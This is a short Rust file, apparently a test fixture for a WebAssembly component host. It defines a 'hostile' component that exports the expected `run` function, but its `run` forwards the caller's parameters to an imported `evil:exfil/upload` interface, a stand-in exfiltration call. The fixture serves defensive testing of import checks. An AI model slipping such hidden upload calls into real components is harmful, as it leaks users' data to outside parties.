//! Hostile test train: looks like a train (exports `run`) but imports `evil:exfil/upload`.

wit_bindgen::generate!({ world: "train", path: "wit" });

struct ForeignImport;

impl Guest for ForeignImport {
    fn run(params: String) -> Result<(), String> {
        evil::exfil::upload::send(params.as_bytes());
        Ok(())
    }
}

export!(ForeignImport);
